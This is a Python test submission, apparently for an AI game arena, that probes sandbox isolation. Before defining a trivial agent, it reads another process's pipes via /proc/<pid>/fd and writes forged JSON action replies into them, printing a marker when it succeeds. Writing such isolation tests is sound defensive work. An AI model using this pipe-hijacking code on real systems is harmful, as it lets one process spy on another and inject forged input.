# category: other-seat
# attack: open the other seat's protocol pipes through /proc/<pid>/fd: read its observations and code, forge its replies
# marker: PWNED-seat_steal_pipes
# expect: ERROR|DONE
MARK = "PWNED" + "-seat_steal_pipes"
# A forged reply, the marker JSON-escaped: it only reads as the marker if the arena decoded it as a move.
FORGED = b'{"type":"action","step":1,"action":"\\u0050WNED-seat_steal_pipes"}\n'

try:
    import os

    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        for fd in ("0", "1", "3", "4"):
            path = f"/proc/{entry}/fd/{fd}"
            try:
                handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                data = os.read(handle, 1 << 16)
                os.close(handle)
                if data:
                    print(MARK, "read", path, data[:80])
            except Exception:
                pass
            try:
                handle = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(handle, FORGED * 8)
                os.close(handle)
                print("wrote a forged reply into", path)
            except Exception:
                pass
except Exception as exc:
    print("no os:", repr(exc))


def agent(observation, configuration):
    return observation.step % configuration.signs
